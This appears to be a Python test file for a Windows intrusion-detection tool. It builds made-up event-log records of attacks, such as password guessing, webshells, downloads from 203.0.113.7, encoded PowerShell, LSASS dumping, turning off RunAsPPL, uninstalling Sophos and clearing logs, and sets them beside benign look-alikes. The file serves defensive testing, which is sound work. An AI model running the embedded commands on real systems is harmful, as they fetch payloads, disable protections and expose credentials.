"""More made attacks, in the layouts that Windows writes: lists of unnamed data, wrappers, old versions' fields.

Each stands beside what looks like it and is ordinary: `LOOK_ALIKES` must raise nothing.
"""

from __future__ import annotations

from firstbell.drill.intrusion.eventlogs import Event
from tests.investigate.hunts.attacks import (
    BASE64,
    CMD,
    POWERSHELL,
    PS,
    SYSMON,
    TS,
    attack,
    audited,
    event,
    process,
)

SYS32 = r"C:\Windows\System32"
EXCHANGE = "MSExchange Control Panel"
DESK = "S-1-5-21-1-2-3-1104"


def ssh(line: str) -> Event:
    """A line of Windows' own OpenSSH."""
    return event("OpenSSH", 4, channel="OpenSSH/Operational", process="sshd", payload=line)


def written(image: str, target: str) -> Event:
    """Sysmon's record of a file that was made."""
    return event(SYSMON, 11, Image=image, TargetFilename=target, User="DISTRICT\\bob")


def value_set(image: str, target: str, details: str) -> Event:
    """Sysmon's record of a value in the registry."""
    return event(SYSMON, 13, EventType="SetValue", Image=image, TargetObject=target, Details=details)


def old_process(number: str, image: str, parent: str, user: str = "bob") -> Event:
    """A process as Windows 7 and Server 2012 record it: the parent is a number, and no command line."""
    return audited(4688, NewProcessId=number, NewProcessName=image, ProcessId=parent, SubjectUserName=user)


ATTACKS = (
    attack("entry.remote_logon", ssh("Accepted password for bob from 203.0.113.7 port 50412 ssh2")),
    attack(
        "entry.remote_logon", audited(4778, AccountName="bob", ClientName="KALI", ClientAddress="203.0.113.7")
    ),
    attack(
        "entry.guessing",
        *[ssh(f"Failed password for invalid user u{n} from 10.0.0.9 port 5{n:04d} ssh2") for n in range(11)],
    ),
    attack(
        "entry.guessing",
        *[
            audited(4776, TargetUserName=f"u{n}", Workstation="KALI", Status="0xc000006a", PackageName="x")
            for n in range(6)
        ],
    ),
    attack(
        "entry.guessing",
        *[
            event(
                "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS",
                140,
                user_data="EventXML",
                IPString="203.0.113.7",
            )
            for _ in range(12)
        ],
    ),
    attack(
        "entry.webshell",
        audited(
            4688, NewProcessName=CMD, SubjectUserName="DefaultAppPool", SubjectDomainName="IIS APPPOOL",
            CommandLine="cmd /c whoami", ParentProcessName=r"C:\Windows\System32\inetsrv\w3wp.exe",
        ),
    ),
    attack(
        "entry.webshell",
        process(CMD, "cmd.exe /c whoami", parent=r"C:\Program Files\ManageEngine\jre\bin\java.exe"),
    ),
    attack(
        "entry.exploit",
        event(EXCHANGE, 4, channel="Application", **{"": "Current user: x /ecp/default.aspx?__VIEWSTATE=AAEC"}),
    ),
    attack(
        "entry.exploit",
        process(
            CMD, "cmd /c calc", parent=r"C:\Program Files\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE"
        ),
    ),
    attack(
        "entry.remote_tool",
        event("MsiInstaller", 11707, channel="Application", **{"": "Product: ScreenConnect Client (a1b2c3d4) -- Installation completed successfully."}),
    ),
    attack(
        "entry.opened",
        process(
            rf"{SYS32}\msdt.exe", "msdt.exe ms-msdt:/id PCWDiagnostic /skip force", parent=r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
        ),
    ),
    attack("entry.opened", written(r"C:\Windows\explorer.exe", r"C:\Users\x\Downloads\invoice.pdf.exe")),
    attack(
        "run.download",
        process(rf"{SYS32}\curl.exe", "curl --output a.txt http://203.0.113.7/a.txt"),
    ),
    attack("run.download", written(rf"{SYS32}\certutil.exe", r"C:\Users\Public\7z.exe")),
    attack(
        "run.download",
        event(
            POWERSHELL,
            4103,
            ContextInfo="Host Application = powershell.exe",
            Payload='CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\nParameterBinding(Invoke-WebRequest): name="Uri"; value="http://203.0.113.7/a"\nParameterBinding(Invoke-WebRequest): name="OutFile"; value="C:\\Users\\Public\\a.exe"',
        ),
    ),
    attack(
        "run.hidden_script",
        event("PowerShell", 400, **{"": f"NewEngineState=Available\n\tHostApplication=powershell.exe -nop -enc {BASE64}\n\tEngineVersion=5.1"}),
    ),
    attack(
        "run.hidden_script",
        event(POWERSHELL, 4103, ContextInfo=f"Severity = Informational\n Host Application = powershell -nop -e {BASE64}\n", Payload="x"),
    ),
    attack("run.hidden_script", process(rf"{SYS32}\certutil.exe", "certutil -decode a.b64 a.exe")),
    attack("tool.named", process(r"C:\Users\Public\svchost.exe", "svchost.exe")),
    attack("tool.named", process(r"C:\Users\x\n.exe", "n.exe interface", OriginalFileName="netsh.exe")),
    attack("tool.named", value_set(r"C:\x\p.exe", r"HKU\S-1-5-21-1\Software\Sysinternals\PsExec\EulaAccepted", "DWORD (0x00000001)")),
    attack("account.raised", audited(4738, SubjectUserName="bob", TargetUserName="svc-old", UserAccountControl="\n\t\t%%2096")),
    attack("account.raised", audited(4704, SubjectUserName="DC01$", SubjectUserSid="S-1-5-18", TargetSid=DESK, PrivilegeList="SeEnableDelegationPrivilege")),
    attack("account.reset", audited(4723, SubjectUserName="bob", TargetUserName="principal")),
    attack("account.hidden", value_set(rf"{SYS32}\lsass.exe", r"HKLM\SAM\SAM\Domains\Account\Users\Names\svc$\(Default)", "Binary Data")),
    attack(
        "account.passwords",
        *[audited(4769, TargetUserName="bob@D", ServiceName=f"svc{n}", TicketEncryptionType="0x12", Status="0x0", IpAddress="10.0.0.9") for n in range(16)],
    ),
    attack("account.dump", event(SYSMON, 10, SourceImage=PS, TargetImage=rf"{SYS32}\lsass.exe", GrantedAccess="0x1450", CallTrace="x")),
    attack("account.dump", event("Microsoft-Windows-Kernel-General", 16, channel="System", HiveName=r"\??\C:\Users\bob\Desktop\sam.save")),
    attack("account.ntds", event("ESENT", 216, **{"": r"lsass (624) A database location change was detected from 'C:\Windows\NTDS\ntds.dit' to '\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\NTDS\ntds.dit'."})),
    attack("move.rdp", event(TS.format("RemoteConnectionManager"), 20506, user_data="EventXML", Param1="bob", Param2="WS17", Param3="2")),
    attack("stage.archive", event(POWERSHELL, 4104, ScriptBlockText=r"[IO.Compression.ZipFile]::CreateFromDirectory('\\fs02\Staff','C:\PerfLogs\s.zip')", Path="")),
    attack("theft.tool", event(SYSMON, 3, Image=r"C:\Users\Public\up.exe", DestinationHostname="g.api.mega.co.nz", DestinationIp="203.0.113.8", DestinationPort="443", Initiated="true")),
    attack("stay.run", value_set(PS, r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders\Common Startup", r"C:\Users\Public")),
    attack("stay.run", value_set(rf"{SYS32}\reg.exe", r"\REGISTRY\USER\S-1-5-21-1-2-3-1104_CLASSES\CLSID\{A1}\InprocServer32\(Default)", r"C:\Users\x\AppData\Roaming\a.dll")),
    attack("stay.task", event(SYSMON, 12, EventType="DeleteValue", Image=rf"{SYS32}\reg.exe", TargetObject=r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Upd\Index")),
    attack("hide.cleared", event("Microsoft-Windows-WMI-Activity", 5858, user_data="Operation_ClientFailure", User="D\\bob", Operation='Start IWbemServices::ExecMethod - ROOT\\CIMV2 : Win32_NTEventlogFile.Name="System.evtx"::cleareventlog')),
    attack("hide.defences", value_set(PS, r"HKLM\SYSTEM\CurrentControlSet\Control\CI\Config\VulnerableDriverBlocklistEnable", "DWORD (0x00000000)")),
    attack("hide.defences", process(rf"{SYS32}\wbem\WMIC.exe", "wmic product where \"name like '%%Sophos%%'\" call uninstall /nointeractive")),
    attack("hide.defences", process(rf"{SYS32}\reg.exe", r'reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v RunAsPPL /t REG_DWORD /d 0 /f')),
    attack("hide.recovery", audited(4701, SubjectUserName="bob", SubjectUserSid=DESK, TaskName=r"\Microsoft\Windows\SystemRestore\SR")),
    attack("hide.recovery", value_set(rf"{SYS32}\reg.exe", r"HKLM\SOFTWARE\Policies\Microsoft\Windows NT\SystemRestore\DisableSR", "DWORD (0x00000001)")),
)  # fmt: skip

# what looks like one of them: a district's own machines and people do it
LOOK_ALIKES = (
    ssh("Connection closed by 203.0.113.7 port 50412 [preauth]"),
    audited(4778, AccountName="tchan", ClientName="WS17", ClientAddress="10.1.2.3"),
    audited(4778, AccountName="tchan", ClientName="Unknown", ClientAddress="LOCAL"),
    audited(4723, SubjectUserName="mrivera", TargetUserName="mrivera"),
    audited(4738, SubjectUserName="helpdesk1", TargetUserName="mrivera", UserAccountControl="-"),
    audited(
        4704,
        SubjectUserName="WS17$",
        SubjectUserSid="S-1-5-18",
        TargetSid="S-1-5-32-551",
        PrivilegeList="SeBackupPrivilege",
    ),
    audited(1101),
    audited(4769, TargetUserName="mrivera@D", ServiceName="http-portal", TicketEncryptionType="0x12", Status="0x0"),
    audited(
        4688,
        NewProcessName=r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe",
        SubjectUserName="DefaultAppPool",
        SubjectDomainName="IIS APPPOOL",
        CommandLine="csc.exe /t:library",
        ParentProcessName=rf"{SYS32}\inetsrv\w3wp.exe",
    ),
    process(CMD, "cmd /c java -version", parent=r"C:\Program Files\Java\bin\java.exe"),
    process(rf"{SYS32}\svchost.exe", "svchost.exe -k netsvcs", OriginalFileName="svchost.exe"),
    process(r"C:\Windows\explorer.exe", "explorer.exe", OriginalFileName="EXPLORER.EXE"),
    process(rf"{SYS32}\rundll32.exe", r"rundll32.exe \\print01\drivers\setup.dll,Install", OriginalFileName="RUNDLL32.EXE"),
    process(rf"{SYS32}\curl.exe", "curl https://status.district.example/health"),
    process(rf"{SYS32}\certutil.exe", "certutil -hashfile C:\\x.iso SHA256", OriginalFileName="CertUtil.exe"),
    written(rf"{SYS32}\msiexec.exe", r"C:\Program Files\Vendor\tool.exe"),
    written(r"C:\Windows\explorer.exe", r"C:\Users\x\Downloads\lesson.v2.pdf"),
    value_set(rf"{SYS32}\svchost.exe", r"HKLM\SOFTWARE\Microsoft\AMSI\FeatureBits", "DWORD (0x00000001)"),
    value_set(r"C:\Windows\explorer.exe", r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders\Personal", r"\\fs01\home$\x"),
    value_set(r"C:\Windows\explorer.exe", r"HKU\S-1-5-21-1\Environment\TEMP", r"%USERPROFILE%\AppData\Local\Temp"),
    event("MsiInstaller", 1033, channel="Application", **{"": "LibreOffice 7.5 | 7.5.1 | 1033 | 0 | The Document Foundation"}),
    event("Microsoft-Windows-Kernel-General", 16, channel="System", HiveName=r"\??\C:\Users\x\ntuser.dat"),
    event("Application Error", 1000, channel="Application", **{"": "WINWORD.EXE"}),
    event("Microsoft-Windows-WinRM", 6, connection="http://wec01.district.example:5985/wsman/SubscriptionManager/WEC"),
    event("ESENT", 326, **{"": r"svchost (624) The database engine attached a database (1, C:\Windows\System32\SRU\SRUDB.dat)."}),
    event(TS.format("RemoteConnectionManager"), 1149, user_data="EventXML", Param1="tchan", Param2="D", Param3="10.1.2.3"),
    audited(4701, SubjectUserName="WS17$", SubjectUserSid="S-1-5-18", TaskName=r"\Microsoft\Windows\SystemRestore\SR"),
    event(SYSMON, 10, SourceImage=r"C:\Program Files\Vendor\agent.exe", TargetImage=rf"{SYS32}\lsass.exe", GrantedAccess="0x1000", CallTrace="x"),
)  # fmt: skip
